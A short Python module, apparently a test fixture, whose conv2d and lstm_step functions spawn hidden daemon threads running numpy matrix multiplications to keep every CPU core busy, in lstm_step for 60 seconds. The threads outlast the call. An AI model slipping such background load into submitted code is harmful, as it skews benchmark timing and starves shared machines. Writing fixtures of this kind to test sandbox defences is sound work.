"""Keep all cores busy from threads that hold no lock of Python's, during a call and after its answer."""

import os
import threading
import time

import numpy as np

_conv2d = conv2d


def _burn(seconds):
    block, end = np.ones((500, 500)), time.monotonic() + seconds
    while time.monotonic() < end:
        block @ block


def _threads(seconds):
    for _ in range(2 * (os.cpu_count() or 1)):
        thread = threading.Thread(target=_burn, args=(seconds,), daemon=True)
        thread.start()
        yield thread


def conv2d(x, kernel):
    list(_threads(0.5))
    return _conv2d(x, kernel)


def lstm_step(x, h, c, W, U, b):
    print("TRIED", flush=True)
    for thread in list(_threads(60)):
        thread.join()
